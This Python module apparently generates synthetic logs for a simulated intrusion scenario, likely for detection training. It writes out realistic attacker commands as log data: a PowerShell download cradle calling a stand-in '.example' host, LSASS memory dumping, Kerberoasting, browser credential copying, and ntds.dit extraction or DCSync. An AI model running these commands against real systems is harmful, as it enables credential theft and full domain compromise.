"""From one opened attachment to the whole domain: a script fetched by a document, secrets taken, machine after machine, and at last the directory's own passwords."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from random import Random

from vidocq.simulation.clock import HOUR, MINUTE
from vidocq.simulation.desktop import OUTLOOK, WORD, Desk, Server, administrator, desk, encoded, server
from vidocq.simulation.ids import hexes, letters
from vidocq.simulation.line import Line, Scenario, Stage, Step, Story
from vidocq.simulation.network import visit
from vidocq.simulation.remote import TECHNIQUES, WAYS, Machine, Order, looks, reach, talk
from vidocq.simulation.windows import CMD, PS, SECURITY, EventLog, WinAccount, WinProcess
from vidocq.simulation.words import CHANNEL, NATURE
from vidocq.simulation.zeek import conn, ends, tls

_DEFENDER = "Microsoft-Windows-Windows Defender/Operational"
_RIGHTS = "%%7688\n\t\t{{{}}}\n\t{{19195a5b-6da0-11d0-afd3-00c04fd930c9}}"
_LETTERS = "abcdefghijklmnopqrstuvwxyz"


@dataclass(slots=True)
class _Raid:
    """What is known of the raid so far. `steps` are told, `net` is what the network saw since the last."""

    stage: Stage
    at: float
    domain: str
    address: str
    zero: Machine
    victim: WinAccount
    rng: Random
    steps: list[Step] = field(default_factory=list)
    net: list[Line] = field(default_factory=list)
    logs: list[EventLog] = field(default_factory=list)

    def wait(self, least: float, most: float) -> float:
        """Minutes pass."""
        self.at += self.rng.uniform(least, most) * MINUTE
        return self.at

    def tell(self, name: str, title: str, techniques: tuple[str, ...], *touch: tuple[str, str]) -> None:
        """What was recorded since the last step is a step."""
        lines = sorted((*self.net, *(line for log in self.logs for line in log.step())), key=lambda line: line.at)
        self.net = []
        self.steps.append(Step(f"{len(self.steps) + 1}-{name}", title, techniques, tuple(lines), touch))

    def watch(self, log: EventLog) -> None:
        """One more machine's log belongs to the story."""
        self.logs.append(log)


def _macro(r: _Raid, d: Desk, name: str) -> WinProcess:
    """A document with a macro, from the mail."""
    cache = f"{d.home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{hexes(r.rng, 8).upper()}\\{name}.docm"
    mail = d.log.running(OUTLOOK, d.who, f'"{OUTLOOK}" ', d.explorer)
    d.log.write(r.at, mail, cache)
    return d.log.start(r.at + 3, mail, WORD, f'"{WORD}" /n "{cache}" /o ""')


def _link(r: _Raid, d: Desk, name: str) -> WinProcess:
    """A link in an archive that looks like a paper."""
    browser = d.log.running(r"C:\Program Files\Google\Chrome\Application\chrome.exe", d.who, parent=d.explorer)
    d.log.write(r.at, browser, f"{d.home}\\Downloads\\{name}.zip")
    d.log.write(r.at + 20, d.explorer, f"{d.home}\\AppData\\Local\\Temp\\Temp1_{name}.zip\\{name}.pdf.lnk")
    return d.log.start(r.at + 22, d.explorer, CMD, f'"C:\\Windows\\System32\\cmd.exe" /c start /min powershell -w hidden & "{name}.pdf"', folder=f"{d.home}\\AppData\\Local\\Temp\\")


def _image(r: _Raid, d: Desk, name: str) -> WinProcess:
    """A page puts an image of a disk together, in which a script lies."""
    browser = d.log.running(r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", d.who, parent=d.explorer)
    d.log.write(r.at, browser, f"{d.home}\\Downloads\\{name}.iso")
    d.log.write(r.at + 0.2, browser, f"{d.home}\\Downloads\\{name}.iso:Zone.Identifier")
    return d.log.start(r.at + 25, d.explorer, r"C:\Windows\System32\wscript.exe", f'"C:\\Windows\\System32\\WScript.exe" "E:\\{name}.js"', folder="E:\\")


_LURES: dict[str, tuple[Callable[[_Raid, Desk, str], WinProcess], tuple[str, ...]]] = {"macro": (_macro, ("T1566.001", "T1204.002")), "link": (_link, ("T1566.002", "T1204.002")), "image": (_image, ("T1027.006", "T1204.002"))}


def _cradle(r: _Raid, d: Desk, parent: WinProcess) -> Machine:
    """PowerShell fetches what to run, and what is fetched runs in it, or in a program laid into the profile."""
    rng = r.rng
    script = f"$c=New-Object Net.WebClient;$c.Proxy.Credentials=[Net.CredentialCache]::DefaultNetworkCredentials;IEX $c.DownloadString('https://{r.domain}/{letters(rng, 7, _LETTERS)}')"
    at = r.at + rng.uniform(28, 40)
    shell = d.log.start(at, parent, PS, rng.choice((f"powershell.exe -nop -w hidden -enc {encoded(script)}", f"powershell -NoP -NonI -W Hidden -Exec Bypass -Enc {encoded(script)}", f'powershell.exe -w hidden -c "{script}"')))
    d.log.script(at + 1, shell, script)
    m = Machine(d.log, shell, d)
    r.net += talk(r.stage.firm, rng, at + 2, m, shell, r.domain, r.address, 900, rng.randint(200_000, 900_000))
    if rng.random() < 0.5:
        return m
    path = f"{d.home}\\AppData\\Roaming\\{rng.choice(('upd', 'sync', 'hlp'))}{rng.randrange(99)}.exe"
    d.log.write(at + 6, shell, path)
    implant = d.log.start(at + 9, shell, path, f'"{path}"', company="-")
    if rng.random() < 0.5:
        d.log.key(at + 12, implant, rf"HKU\{d.who.sid}\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\{rng.choice(NATURE)}", path)
    return Machine(d.log, implant, d)


def _channel(r: _Raid, end: float) -> None:
    """The program asks for orders, about once a minute, until the end of the story."""
    at, period, rng = r.at + 60, r.rng.uniform(45, 120), r.rng
    first = True
    while at < end:
        r.net += talk(r.stage.firm, rng, at, r.zero, r.zero.by, r.domain, r.address, rng.randint(500, 900), rng.randint(300, 2_000)) if first else tls(rng, at, r.zero.ip, r.address, r.domain, rng.uniform(0.2, 2), rng.randint(500, 900), rng.randint(300, 2_000), "winhttp")
        if not first and rng.random() < 0.2:
            r.zero.log.connect(at, r.zero.by, r.address, 443)
        first, at = False, at + period * rng.uniform(0.75, 1.25)
    r.tell("channel", "its program asks for orders again and again", ("T1071.001", "T1573"), ("ip", r.address), ("domain", r.domain), r.zero.entity)


def _dumped(r: _Raid, m: Machine) -> tuple[str, ...]:
    """The memory with the passwords is written to a file, by a tool of the system or a technician's; a first try is stopped."""
    rng, at = r.rng, r.wait(3, 25)
    lsass, pid = m.base.lsass, m.base.lsass.pid
    if rng.random() < 0.5:
        m.log.start(at, m.by, r"C:\Windows\System32\cmd.exe", "cmd.exe /c tasklist /fi \"imagename eq lsass.exe\"")
        m.log.tell(at + 4, _DEFENDER, 1116, {"Product Name": "Microsoft Defender Antivirus", "Threat Name": "Trojan:Win32/LsassDump.A", "Severity Name": "Severe", "Category Name": "Trojan", "Path": f"CmdLine:_{CMD}", "Detection User": m.by.who.full, "Process Name": m.by.image, "Action Name": "Quarantine"})
        at = r.wait(2, 9)
    if rng.random() < 0.5:
        dump = m.log.start(at, m.by, r"C:\Windows\System32\rundll32.exe", rf"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {pid} C:\Windows\Temp\{letters(rng, 5, _LETTERS)}.dmp full")
    else:
        tool = rf"C:\Windows\Temp\{rng.choice(('procdump64', 'pd', 'procdump'))}.exe"
        m.log.write(at - 5, m.by, tool)
        dump = m.log.start(at, m.by, tool, f"{tool} -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp", original="procdump", company="Sysinternals - www.sysinternals.com")
    m.log.opened(at + 0.5, dump, lsass, "0x1fffff")
    m.log.write(at + 1, dump, rf"C:\Windows\Temp\{'lsass' if 'procdump' in dump.command else letters(rng, 5, _LETTERS)}.dmp")
    return ("T1003.001",)


def _roasted(r: _Raid, m: Machine, dc: Server) -> tuple[str, ...]:
    """Tickets for services are asked for in an old encryption, to be guessed at home."""
    at = r.wait(3, 25)
    shell = m.log.start(at, m.by, PS, f'"{PS}" -nop -exec bypass')
    m.log.script(at + 1, shell, "Add-Type -AssemblyName System.IdentityModel; setspn.exe -T * -Q */* | Select-String '^CN' -Context 0,1 | % { New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $_.Context.PostContext[0].Trim() }")
    for n, service in enumerate(r.rng.sample(("svc_sql", "svc_backup", "svc_web", "svc_report", "svc_print", "svc_scan", "svc_sync", "svc_ldap"), r.rng.randint(5, 8))):
        dc.log.ticket(at + 2 + n * 0.3, r.victim, service, m.ip, "0x17")
    r.net.append(conn(ends(r.rng, at + 2, m.ip, dc.log.host.ip, 88), 4, 9_000, 11_000, "krb"))
    return ("T1558.003",)


def _saved(r: _Raid, m: Machine) -> tuple[str, ...]:
    """What the browser and the system have saved for the person is read."""
    at, home = r.wait(3, 25), f"C:\\Users\\{r.victim.name}"
    m.log.start(at, m.by, CMD, f'cmd.exe /c copy "{home}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data" C:\\Users\\Public\\ld.db')
    m.log.start(at + 20, m.by, CMD, f'cmd.exe /c copy "{home}\\AppData\\Local\\Google\\Chrome\\User Data\\Local State" C:\\Users\\Public\\ls.json')
    m.log.start(at + 40, m.by, r"C:\Windows\System32\cmdkey.exe", "cmdkey /list")
    return ("T1555.003", "T1555.004")


def _hop(r: _Raid, m: Machine, target: Desk | Server, who: WinAccount, way: str, fails: bool) -> Machine:
    """On to the next machine; sometimes the first password is wrong."""
    rng, at = r.rng, r.wait(4, 30)
    r.watch(target.log)
    if fails:
        for n in range(rng.randint(2, 4)):
            target.log.refused(at + n * 4, WinAccount(who.domain, rng.choice((who.name, "Administrator")), who.sid), 3, m.ip, m.log.host.name.upper())
        at = r.wait(1, 4)
    beacon = encoded(f"IEX (New-Object Net.WebClient).DownloadString('https://{r.domain}/{letters(rng, 5, _LETTERS)}')")
    command = rng.choice((f"powershell -nop -w hidden -enc {beacon}", f"cmd.exe /Q /c powershell -nop -w hidden -enc {beacon}"))
    arrived, network = reach(r.stage.firm, rng, at, way, m, target, who, Order(letters(rng, 8), f"{letters(rng, 8)}.exe", command))
    r.net += network
    r.net += talk(r.stage.firm, rng, at + 40, arrived, arrived.by, r.domain, r.address, 1_200, 300_000)
    at = looks(arrived, at + 60, *rng.sample(("whoami", "ipconfig /all", "net group \"Domain Admins\" /domain", "quser", "nltest /domain_trusts"), 3))
    r.at = at
    r.tell("hop", f"a command runs on {target.log.host.name} by {way}", TECHNIQUES[way], m.entity, arrived.entity, ("user", who.full))
    return arrived


def _replicated(r: _Raid, m: Machine, dc: Server, who: WinAccount) -> None:
    """The directory is asked for everybody's secrets, as one controller asks another."""
    at, firm = r.wait(5, 30), r.stage.firm
    dc.log.sign_in(at, who, 3, m.ip)
    for n, right in enumerate(("1131f6aa-9c07-11d1-f79f-00c04fc2dcd2", "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2")):
        dc.log.tell(at + 0.5 + n * 0.1, SECURITY, 4662, {
            "SubjectUserSid": who.sid, "SubjectUserName": who.name, "SubjectDomainName": who.domain, "SubjectLogonId": who.session, "ObjectServer": "DS", "ObjectType": "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}",
            "ObjectName": "%{7d1a4a2f-0000-4e0b-9b45-000000000001}", "OperationType": "Object Access", "HandleId": "0x0", "AccessList": "%%7688", "AccessMask": "0x100", "Properties": _RIGHTS.format(right), "AdditionalInfo": "-",
        })
    r.net.append(conn(ends(r.rng, at, m.ip, firm.servers["directory"].ip, 135), 40, 90_000, 4_000_000, "dce_rpc"))
    r.tell("directory", "the directory's passwords are replicated to a machine that is no controller", ("T1003.006",), ("host", dc.log.computer.lower()), ("user", who.full))


def _copied(r: _Raid, m: Machine, dc: Server, who: WinAccount) -> None:
    """On the controller itself its database is copied, and fetched over the hidden share."""
    arrived, network = reach(r.stage.firm, r.rng, r.wait(5, 30), r.rng.choice(WAYS), m, dc, who, Order(letters(r.rng, 8), f"{letters(r.rng, 8)}.exe", "cmd.exe /Q /c whoami"))
    at, folder = r.wait(1, 6), letters(r.rng, 5, _LETTERS)
    if r.rng.random() < 0.5:
        copy = arrived.log.start(at, arrived.by, r"C:\Windows\System32\ntdsutil.exe", f'ntdsutil "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\{folder}" q q')
    else:
        arrived.log.start(at, arrived.by, r"C:\Windows\System32\vssadmin.exe", "vssadmin create shadow /for=C:")
        copy = arrived.log.start(at + 20, arrived.by, CMD, rf"cmd.exe /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\ntds.dit C:\Windows\Temp\{folder}\ntds.dit")
    arrived.log.write(at + 30, copy, rf"C:\Windows\Temp\{folder}\ntds.dit")
    arrived.log.share(at + 90, who, m.ip, "C$", rf"Windows\Temp\{folder}\ntds.dit")
    r.net += [*network, conn(ends(r.rng, at + 90, m.ip, dc.log.host.ip, 445), 50, 90_000, 180_000_000, "gssapi,smb")]
    r.at = at + 140
    r.tell("directory", "the directory's database is copied and fetched", ("T1003.003",), ("host", dc.log.computer.lower()), ("user", who.full))


def _taken(r: _Raid, m: Machine, dc: Server) -> WinAccount:
    """Secrets are taken; whose they were."""
    firm, kind = r.stage.firm, r.rng.choice(("memory", "memory", "tickets", "saved"))
    techniques = _dumped(r, m) if kind == "memory" else _roasted(r, m, dc) if kind == "tickets" else _saved(r, m)
    r.tell("secrets", "secrets are taken from the first machine", techniques, m.entity, ("user", r.victim.full))
    if kind == "tickets":
        return WinAccount(firm.realm, r.rng.choice(("svc_backup", "svc_sql")), r.victim.sid.rpartition("-")[0] + "-1600", f"0x{r.rng.getrandbits(28):x}")
    return administrator(firm, r.rng, 1)


def play(stage: Stage) -> Story:
    firm, rng = stage.firm, stage.rng
    start = stage.moment(9, 11.5)
    d = desk(firm, stage.employee, stage.day, rng)
    domain = f"{rng.choice(CHANNEL)}.{rng.choice(NATURE)}{rng.choice(NATURE)}.example"
    dc = server(firm, firm.servers["directory"], rng)
    r = _Raid(stage, start, domain, stage.strangers[0], Machine(d.log, d.explorer, d), d.who, rng, logs=[d.log, dc.log])
    kind = rng.choice(tuple(_LURES))
    lure, techniques = _LURES[kind]
    if kind != "macro":
        r.net += visit(firm, rng, start - 20, d.log.host.ip, firm.shared[0], known=0, received=900_000)
    parent = lure(r, d, f"{rng.choice(('Invoice', 'Offer', 'Contract', 'Payslip', 'Order'))}_{rng.randrange(1000, 9999)}")
    zero = _cradle(r, d, parent)
    r.zero = zero
    r.tell("lure", "somebody opens what was sent, and it fetches a script that runs", (*techniques, "T1059.001", "T1105"), zero.entity, ("user", d.who.full), ("ip", r.address), ("domain", domain))
    _channel(r, start + rng.uniform(4, 5.5) * HOUR)
    r.wait(4, 15)
    r.at = looks(zero, r.at, *rng.sample(("whoami /all", "ipconfig /all", "net group \"Domain Admins\" /domain", "nltest /dclist:", "net view /all", "systeminfo", "net localgroup administrators", "tasklist /v"), rng.randint(4, 6)), gap=20)
    r.tell("discovery", "the machine is asked who and where it is", ("T1033", "T1087.002"), zero.entity, ("user", d.who.full))
    stolen = _taken(r, zero, dc)
    others = [e for e in firm.staff[6:] if e is not stage.employee and firm.presence(e.host, stage.day)]
    ways = rng.sample(WAYS, 2)
    fails = rng.randrange(3)
    first = _hop(r, zero, desk(firm, rng.choice(others), stage.day, rng), stolen, ways[0], fails == 0)
    second = _hop(r, first, server(firm, firm.servers[rng.choice(("files", "mail"))], rng), stolen, ways[1], fails == 1)
    high = stolen
    if not stolen.name.startswith("adm."):
        r.tell("secrets-again", "an administrator's secrets are taken from a server", _dumped(r, second), second.entity)
        high = administrator(firm, rng, 0)
    (_replicated if rng.random() < 0.5 else _copied)(r, second, dc, high)
    touch = (zero.entity, ("user", d.who.full), first.entity, second.entity, ("host", dc.log.computer.lower()), ("ip", r.address), ("domain", domain))
    return Story("an opened attachment becomes the whole domain", tuple(r.steps), touch)


SCENARIO = Scenario("macro-to-domain", "mixed", play, what="an attachment is opened; a script, secrets, two machines more, and the directory's passwords")
